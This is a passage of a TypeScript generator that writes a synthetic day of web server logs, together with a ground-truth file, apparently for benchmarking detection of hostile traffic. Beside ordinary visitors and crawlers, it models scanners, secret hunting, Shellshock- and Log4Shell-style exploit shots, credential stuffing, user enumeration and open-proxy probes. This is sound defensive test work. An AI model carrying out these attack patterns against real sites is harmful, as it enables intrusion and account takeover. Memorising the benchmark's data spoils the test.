        if (this.rand() < 0.3) {
          // Password too short: the form comes back with the error.
          this.req(src, t, { method: 'POST', target: '/register', status: 200, bytes: this.int(11_000, 12_000), referer: `${SITE}/register`, ua });
          t += this.uniform(15_000, 60_000);
        }
        this.req(src, t, { method: 'POST', target: '/register', status: 302, bytes: 0, referer: `${SITE}/register`, ua });
        return this.page(src, t + 300, '/welcome', `${SITE}/register`, ua, 200, false) + this.uniform(5_000, 60_000);
      }
      case 'login': {
        form('/login');
        const typos = this.rand() < 0.5 ? 0 : this.int(1, 3);
        for (let i = 0; i < typos; i++) {
          this.req(src, t, { method: 'POST', target: '/login', status: 401, bytes: this.int(9_000, 9_500), referer: `${SITE}/login`, ua });
          t += this.uniform(5_000, 30_000);
        }
        this.req(src, t, { method: 'POST', target: '/login', status: 302, bytes: 0, referer: `${SITE}/login`, ua });
        return this.page(src, t + 250, '/account', `${SITE}/login`, ua, 200, false) + this.uniform(5_000, 60_000);
      }
      case 'comment': {
        const post = this.pick(POSTS);
        form(post);
        t += this.uniform(30_000, 400_000);
        this.req(src, t, { method: 'POST', target: '/wp-comments-post.php', status: 302, bytes: 0, referer: `${SITE}${post}`, ua });
        return this.page(src, t + 300, post, `${SITE}${post}`, ua, 200, false) + 10_000;
      }
      case 'contact': {
        form('/contact');
        this.req(src, t, { method: 'POST', target: '/contact', status: 302, bytes: 0, referer: `${SITE}/contact`, ua });
        return this.page(src, t + 300, '/contact?sent=1', `${SITE}/contact`, ua, 200, false) + 10_000;
      }
      default: {
        return this.page(src, t, `/?s=${this.pick(SEARCH_TERMS)}`, `${SITE}/`, ua, 200, false) + this.uniform(5_000, 40_000);
      }
    }
  }

  browsers(targetLines: number): void {
    while (this.spool.lines < targetLines) {
      const v6 = this.rand() < 0.15;
      const src = v6 ? this.sourceV6('browser', false) : this.sourceV4('browser');
      this.visitor(src, this.pick(BROWSERS));
    }
  }

  nats(): void {
    const office = this.sourceV4('nat-gateway');
    for (let i = 0; i < 40; i++) {
      // Office hours, local time: 08:00–18:00.
      this.visitor(office, this.pick(BROWSERS), { from: DAY_START + 8 * 3600_000, to: DAY_START + 18 * 3600_000 });
    }
    for (let n = 0; n < 2; n++) {
      const carrier = this.sourceV4('nat-gateway');
      for (let i = 0; i < 70; i++) this.visitor(carrier, this.pick(BROWSERS.filter((b) => /Mobile|Android|iPhone/.test(b))));
    }
  }

  crawlers(): void {
    const bots: [string, string, number, number][] = [
      ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', '66.249.66', 6, 2600],
      [
        'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.94 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
        '66.249.68',
        3,
        1200,
      ],
      ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', '157.55.39', 4, 1400],
      ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', '40.77.167', 2, 600],
      [
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1)',
        '17.241.219',
        2,
        400,
      ],
      ['DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)', '20.191.45', 1, 200],
    ];
    for (const [ua, net, ips, requests] of bots) {
      const srcs = Array.from({ length: ips }, () => this.sourceV4('search-crawler', 0, this.v4(net)));
      for (let i = 0; i < requests; i++) {
        const src = this.pick(srcs);
        const t = DAY_START + this.rand() * DAY_MS;
        const r = this.rand();
        if (r < 0.03) this.req(src, t, { method: 'GET', target: '/robots.txt', status: 200, bytes: 312, ua });
        else if (r < 0.06)
          this.req(src, t, {
            method: 'GET',
            target: this.pick(['/sitemap_index.xml', '/post-sitemap.xml', '/page-sitemap.xml', '/product-sitemap.xml']),
            status: 200,
            ua,
            bytes: this.int(2000, 9000),
          });
        else if (r < 0.11) this.req(src, t, { method: 'GET', target: this.pick(DEAD_LINKS), status: 404, ua, bytes: this.int(14_000, 16_000) });
        else if (r < 0.25) this.req(src, t, { method: 'GET', target: this.pick(IMAGES), status: 200, ua, bytes: this.int(20_000, 240_000) });
        else {
          const status = this.rand() < 0.2 ? 304 : 200;
          this.req(src, t, { method: 'GET', target: this.pick(PAGES), status, ua, bytes: status === 200 ? this.int(9_000, 68_000) : 0 });
        }
      }
    }
  }

  uptime(): void {
    const probe = this.sourceV4('uptime-checker', 0.5, '10.0.3.7'); // internal: reaches the default vhost too
    for (let t = DAY_START + 3_000; t < DAY_START + DAY_MS; t += 15_000) {
      this.req(probe, t, { method: 'GET', target: '/healthz', status: 200, bytes: 2, ua: 'Blackbox Exporter/0.24.0' });
    }
    const robots = Array.from({ length: 3 }, () => this.sourceV4('uptime-checker'));
    for (let t = DAY_START + 41_000; t < DAY_START + DAY_MS; t += 300_000) {
      this.req(this.pick(robots), t + this.rand() * 2000, {
        method: 'HEAD',
        target: '/',
        status: 200,
        ua: 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
      });
    }
    const pingdom = Array.from({ length: 5 }, () => this.sourceV4('uptime-checker'));
    for (let t = DAY_START + 17_000; t < DAY_START + DAY_MS; t += 60_000) {
      this.req(this.pick(pingdom), t, {
        method: 'GET',
        target: '/shop/',
        status: 200,
        ua: 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
        bytes: this.int(40_000, 41_000),
      });
    }
  }

  dummy(): void {
    const v4 = this.source('127.0.0.1', 'apache-dummy', () => '127.0.0.1', 0.7);
    const v6 = this.source('::1', 'apache-dummy', () => '::1', 0.7);
    // After busy spells the parent shrinks its pool and wakes idle children, a handful at a time.
    for (let burst = 0; burst < 180; burst++) {
      const t = this.humanTime();
      const n = this.int(2, 24);
      const src = this.rand() < 0.5 ? v4 : v6;
      for (let i = 0; i < n; i++) {
        this.req(src, t + i * this.uniform(50, 1500), {
          method: 'OPTIONS',
          target: '*',
          proto: 'HTTP/1.0',
          status: 200,
          bytes: 0,
          ua: 'Apache/2.4.58 (Ubuntu) (internal dummy connection)',
        });
      }
    }
  }

  apiClients(): void {
    const sync = this.sourceV4('api-client');
    const ua = 'WooCommerce API Client-PHP/3.1.0';
    for (let t = DAY_START + 120_000; t < DAY_START + DAY_MS; t += 300_000) {
      const expired = this.rand() < 0.01;
      if (expired) {
        this.req(sync, t, { method: 'GET', target: '/wp-json/wc/v3/products?per_page=50&page=1', status: 401, user: 'ck_sync', ua });
        t += 2000;
      }
      for (let page = 1; page <= 3; page++) {
        this.req(sync, t + page * 700, {
          method: 'GET',
          target: `/wp-json/wc/v3/products?per_page=50&page=${page}`,
          status: 200,
          bytes: this.int(40_000, 80_000),
          user: 'ck_sync',
          ua,
        });
      }
      if (this.rand() < 0.3)
        this.req(sync, t + 3000, { method: 'PUT', target: `/wp-json/wc/v3/products/${this.int(400, 480)}`, status: 200, user: 'ck_sync', ua, bytes: 2100 });
    }
    const headless = this.sourceV4('api-client');
    const hua = 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)';
    for (let i = 0; i < 3000; i++) {
      const t = this.humanTime();
      const r = this.rand();
      const target =
        r < 0.5
          ? `/wp-json/wp/v2/posts?per_page=10&page=${this.int(1, 3)}&_embed=1`
          : r < 0.8
            ? `/wp-json/wp/v2/pages?slug=${this.pick(['about', 'faq', 'visit-us', 'wholesale', 'privacy-policy'])}`
            : `/wp-json/wp/v2/media/${this.int(4100, 4700)}`;
      // Media deleted from the library: the front end still asks for them.
      const status = r >= 0.8 && this.rand() < 0.05 ? 404 : 200;
      this.req(headless, t, { method: 'GET', target, status, ua: hua, bytes: this.int(3000, 60000) });
    }
    const report = this.sourceV4('api-client', 0, '10.0.2.20');
    for (let h = 0; h < 24; h++) {
      const t = DAY_START + h * 3600_000 + 5 * 60_000;
      for (let page = 1; page <= 4; page++) {
        this.req(report, t + page * 1500, {
          method: 'GET',
          target: `/wp-json/wc/v3/orders?after=2024-03-12T${p2(h)}:00:00&per_page=100&page=${page}`,
          status: 200,
          user: 'ck_reports',
          ua: 'python-requests/2.31.0',
        });
      }
    }
    const app = this.sourceV6('api-client', false);
    for (let i = 0; i < 600; i++) {
      const t = this.humanTime();
      this.req(app, t, {
        method: 'GET',
        target: '/wp-json/wp/v2/posts?per_page=5&_fields=id,title,link',
        status: 200,
        ua: 'HarborCoffee/3.2 (iOS 17.3; build 412) CFNetwork/1490.0.4 Darwin/23.2.0',
      });
    }
  }

  // ── attacking ──

  /** A probe target, sometimes under a subfolder where the app might be installed. */
  probePath(): string {
    const dir = this.rand() < 0.6 ? '' : this.pick(PROBE_DIRS);
    const target = this.pick(PROBE_TARGETS);
    return `${dir}${target}`;
  }
  probeStatus(path: string): number {
    if (/\/\.ht|server-(status|info)$/.test(path)) return 403;
    if (path === '/wp-admin/setup-config.php') return 200;
    if (path === '/admin/' || path === '/administrator/') return 302;
    return 404;
  }
  scannerUa(): string {
    return this.pick([
      'Mozilla/5.0 zgrab/0.x',
      'Go-http-client/1.1',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      'python-requests/2.31.0',
      'curl/8.4.0',
      'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 14_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Mobile/15E148 Safari/604.1',
    ]);
  }
  probe(src: Source, t: number, ua: string, path = this.probePath()): void {
    this.req(src, t, { method: 'GET', target: path, status: this.probeStatus(path), ua, bytes: this.int(14_000, 16_000) });
  }

  fastScanners(n: number): void {
    for (let i = 0; i < n; i++) {
      const v6 = i % 6 === 5;
      const src = v6 ? this.sourceV6('fast-scanner', this.rand() < 0.5, 0.4) : this.sourceV4('fast-scanner', 0.4);
      const ua = this.scannerUa();
      let t = DAY_START + this.rand() * DAY_MS;
      const count = this.int(25, 160);
      const span = this.uniform(8_000, 60_000);
      for (let k = 0; k < count; k++) {
        this.probe(src, t, ua);
        t += (span / count) * this.uniform(0.3, 1.7);
      }
    }
  }

  ipv6Rotating(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = this.sourceV6('ipv6-rotating-scanner', true);
      const ua = this.scannerUa();
      let t = DAY_START + this.rand() * DAY_MS;
      const count = this.int(20, 90);
      const step = this.uniform(2_000, 30_000);
      for (let k = 0; k < count; k++) {
        this.probe(src, t, ua);
        t += step * this.uniform(0.5, 1.5);
      }
    }
  }

  slowScanners(hours: number, day: number): void {
    for (let i = 0; i < hours; i++) {
      const src = i % 5 === 4 ? this.sourceV6('slow-scanner-hours', false, 0.3) : this.sourceV4('slow-scanner-hours', 0.3);
      const ua = this.scannerUa();
      const length = this.uniform(2, 6) * 3600_000;
      let t = DAY_START + this.rand() * (DAY_MS - length);
      const end = t + length;
      while (t < end) {
        this.probe(src, t, ua);
        t += this.uniform(10_000, 60_000);
      }
    }
    for (let i = 0; i < day; i++) {
      const src = i % 5 === 4 ? this.sourceV6('slow-scanner-day', false, 0.3) : this.sourceV4('slow-scanner-day', 0.3);
      const ua = this.scannerUa();
      let t = DAY_START + this.rand() * 300_000;
      while (t < DAY_START + DAY_MS) {
        this.probe(src, t, ua);
        t += this.uniform(120_000, 480_000);
      }
    }
  }

  scannerTools(n: number): void {
    const names = Object.keys(TOOLS);
    for (let i = 0; i < n; i++) {
      const tool = TOOLS[names[i % names.length] as string] as (typeof TOOLS)[string];
      const src = this.sourceV4('scanner-tool');
      // Throttled runs: from a few minutes to four hours for the whole list.
      const span = Math.exp(this.uniform(Math.log(300_000), Math.log(4 * 3600_000)));
      const start = DAY_START + this.rand() * (DAY_MS - span);
      const count = Math.min(tool.requests.length, this.int(12, 16));
      const times = Array.from({ length: count }, () => start + this.rand() * span).sort((a, b) => a - b);
      const testBase = this.int(100, 9000);
      times.forEach((t, k) => {
        const [method, target, status] = tool.requests[k] as readonly [string, string, number];
        this.req(src, t, { method, target, status, ua: tool.ua(testBase + k * 3), bytes: status === 200 ? this.int(3000, 60000) : undefined });
      });
    }
  }

  secretHunters(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = i % 4 === 3 ? this.sourceV6('secret-hunter', false) : this.sourceV4('secret-hunter');
      const ua = this.rand() < 0.5 ? this.scannerUa() : this.pick(BROWSERS);
      const count = this.int(6, 22);
      let t = DAY_START + this.rand() * DAY_MS * 0.6;
      const targets = [...SECRET_TARGETS].sort(() => this.rand() - 0.5).slice(0, count);
      for (const path of targets) {
        this.req(src, t, { method: 'GET', target: path, status: this.probeStatus(path), ua, bytes: this.int(14_000, 16_000) });
        t += this.uniform(60_000, 1_200_000);
      }
    }
  }

  exploitShots(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = i % 7 === 6 ? this.sourceV6('exploit-shot', false, 0.3) : this.sourceV4('exploit-shot', 0.3);
      let t = DAY_START + this.rand() * DAY_MS;
      const ua0 = this.pick([
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36',
        'curl/7.88.1',
        'Go-http-client/1.1',
      ]);
      if (this.rand() < 0.3) this.req(src, t - this.uniform(500, 5000), { method: 'GET', target: '/', status: 200, ua: ua0, bytes: 48_211 });
      const shots = this.rand() < 0.3 ? 2 : 1;
      for (let k = 0; k < shots; k++) {
        const [method, raw, status, where] = EXPLOITS[(i + k * 11) % EXPLOITS.length] as (typeof EXPLOITS)[number];
        const cb = this.pick(CALLBACK);
        const target = raw.replace('CB', raw.includes('%') ? encodeURIComponent(cb) : cb);
        let ua = ua0;
        let referer = '';
        if (where === 'ua') ua = (raw.startsWith('/cgi-bin') ? this.pick(SHELLSHOCK) : this.pick(LOG4SHELL_HEADERS)).replace('CB', cb);
        if (where === 'referer') referer = this.pick(LOG4SHELL_HEADERS).replace('CB', cb);
        this.req(src, t, { method, target, status, ua, referer, bytes: status === 200 ? 48_211 : undefined });
        t += this.uniform(200, 20_000);
      }
    }
  }

  registrationSpam(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = this.sourceV4('registration-spam');
      const ua = this.rand() < 0.6 ? this.pick(OUTDATED) : this.pick(SCRIPTED);
      const times = this.int(2, 5);
      for (let k = 0; k < times; k++) {
        const t = DAY_START + this.rand() * DAY_MS;
        this.req(src, t, {
          method: 'GET',
          target: '/register',
          status: 200,
          ua,
          bytes: this.int(11_000, 12_000),
          referer: this.rand() < 0.5 ? `${SITE}/` : '',
        });
        this.req(src, t + this.uniform(400, 3_000), {
          method: 'POST',
          target: '/register',
          status: this.rand() < 0.65 ? 302 : 200,
          ua,
          bytes: 0,
          referer: this.rand() < 0.7 ? `${SITE}/register` : '',
        });
      }
    }
  }

  commentSpam(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = this.sourceV4('comment-spam');
      const ua = this.rand() < 0.5 ? this.pick(OUTDATED) : this.rand() < 0.5 ? this.pick(SCRIPTED) : this.pick(BROWSERS);
      const contact = this.rand() < 0.3;
      const posts = this.int(3, 15);
      for (let k = 0; k < posts; k++) {
        const t = DAY_START + this.rand() * DAY_MS;
        const post = this.pick(POSTS);
        const form = contact ? '/contact' : post;
        if (this.rand() < 0.5) this.req(src, t - this.uniform(1_000, 8_000), { method: 'GET', target: form, status: 200, ua, bytes: this.int(20_000, 40_000) });
        if (contact) this.req(src, t, { method: 'POST', target: '/contact', status: 302, ua, bytes: 0, referer: `${SITE}/contact` });
        else {
          const r = this.rand();
          this.req(src, t, {
            method: 'POST',
            target: '/wp-comments-post.php',
            status: r < 0.7 ? 302 : r < 0.85 ? 409 : 429,
            ua,
            bytes: r < 0.7 ? 0 : undefined,
            referer: `${SITE}${post}`,
          });
        }
      }
    }
  }

  credentialStuffing(single: number, distributed: number): void {
    for (let i = 0; i < single; i++) {
      const src = this.sourceV4('credential-stuffing');
      const rotate = i % 2 === 0;
      const ua0 = this.pick(BROWSERS);
      const count = this.int(250, 700);
      const start = DAY_START + this.rand() * (DAY_MS - 3600_000);
      for (let k = 0; k < count; k++) {
        const r = this.rand();
        // 200: the form again (expired token); 401: wrong password; 302: a hit.
        const status = r < 0.5 ? 200 : r < 0.99 ? 401 : 302;
        this.req(src, start + this.rand() * 3600_000, {
          method: 'POST',
          target: '/login',
          status,
          ua: rotate ? this.pick(BROWSERS) : ua0,
          bytes: status === 302 ? 0 : this.int(9_000, 9_500),
        });
      }
    }
    for (let i = 0; i < distributed; i++) {
      const src = this.sourceV4('credential-stuffing-distributed');
      const ua = this.pick(BROWSERS);
      const count = this.int(2, 6);
      for (let k = 0; k < count; k++) {
        const t = DAY_START + this.rand() * DAY_MS;
        if (this.rand() < 0.3) this.req(src, t - this.uniform(200, 900), { method: 'GET', target: '/login', status: 200, ua, bytes: 9_112 });
        const status = this.rand() < 0.6 ? 401 : 200;
        this.req(src, t, { method: 'POST', target: '/login', status, ua, bytes: this.int(9_000, 9_500) });
      }
    }
  }

  authorEnumeration(n: number): void {
    for (let i = 0; i < n; i++) {
      const src = this.sourceV4('author-enumeration');
      const ua = this.rand() < 0.5 ? this.scannerUa() : this.pick(SCRIPTED);
      const max = this.int(5, 20);
      let t = DAY_START + this.rand() * DAY_MS;
      const step = this.rand() < 0.5 ? this.uniform(300, 3_000) : this.uniform(20_000, 120_000);
      for (let a = 1; a <= max; a++) {
        const exists = a <= 3;
        this.req(src, t, { method: 'GET', target: `/?author=${a}`, status: exists ? 301 : 404, ua, bytes: exists ? 0 : 15_102 });
        if (exists && this.rand() < 0.5) this.req(src, t + 300, { method: 'GET', target: `/author/${['admin', 'lena', 'tomas'][a - 1]}/`, status: 200, ua });
        t += step * this.uniform(0.5, 1.5);
      }
    }
  }

  openProxy(n: number): void {
    const tries: readonly (readonly [string, string, number])[] = [
      ['CONNECT', 'mail.example.net:25', 405],
      ['CONNECT', 'smtp.example.com:25', 405],
      ['CONNECT', '203.0.113.9:443', 400],
      ['CONNECT', 'www.example.com:443', 405],
      ['GET', 'http://proxyjudge.example/azenv.php', 404],
      ['GET', 'http://www.example.com/', 200],
      ['GET', 'http://198.51.100.4/proxy-check?id=7731', 404],
    ];
    for (let i = 0; i < n; i++) {
      const src = this.sourceV4('open-proxy-probe', 0.5);
      let t = DAY_START + this.rand() * DAY_MS;
      const ua = this.pick(['-', 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'Go-http-client/1.1', 'python-requests/2.25.1']);
      const count = this.int(1, 4);
      for (let k = 0; k < count; k++) {
        const [method, target, status] = tries[(i + k * 3) % tries.length] as readonly [string, string, number];
        this.req(src, t, { method, target, status, ua, proto: method === 'CONNECT' && this.rand() < 0.5 ? 'HTTP/1.0' : 'HTTP/1.1' });
        t += this.uniform(500, 30_000);
      }
    }
  }
}

/** Options of `generateDay`. */
export interface DayOptions {
  /** About this many lines (visitors fill what the other behaviours leave). */
  lines: number;
  seed: number;
  logPath: string;
  truthPath: string;
}

/** Writes the day's log (in time order, streaming) and its truth file; returns the truth. */
export async function generateDay(o: DayOptions): Promise<DayTruth> {
  const w = new DayWriter(o.seed);
  w.uptime();
  w.dummy();
  w.crawlers();
  w.apiClients();
  w.nats();
  w.fastScanners(30);
  w.ipv6Rotating(10);
  w.slowScanners(15, 15);
  w.scannerTools(16);
  w.secretHunters(16);
  w.exploitShots(42);
  w.registrationSpam(300);
  w.commentSpam(40);
  w.credentialStuffing(4, 150);
  w.authorEnumeration(10);
  w.openProxy(15);
  w.browsers(o.lines);

  await w.spool.writeSorted(o.logPath);

  const truth: DayTruth = {
    version: 1,
    seed: o.seed,
    from: new Date(DAY_START).toISOString(),
    to: new Date(DAY_START + DAY_MS - 1).toISOString(),
    lines: w.spool.lines,
    behaviours: BEHAVIOURS,
    // A source whose every request fell outside the day is not in the log, so not in the truth.
    sources: Object.fromEntries([...w.truth].filter(([, s]) => s.requests > 0)),
  };
  writeFileSync(o.truthPath, `${JSON.stringify(truth, null, 1)}\n`);
  return truth;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const { values } = parseArgs({
    options: { lines: { type: 'string', default: '300000' }, seed: { type: 'string', default: '8' }, out: { type: 'string', default: 'bench/out' } },
  });
  mkdirSync(values.out, { recursive: true });
  const logPath = join(values.out, 'day.log');
  const truthPath = join(values.out, 'day.truth.json');
  const t = await generateDay({ lines: Number(values.lines), seed: Number(values.seed), logPath, truthPath });
  console.log(`${logPath}: ${t.lines.toLocaleString('en')} lines; ${truthPath}: ${Object.keys(t.sources).length.toLocaleString('en')} sources`);
}
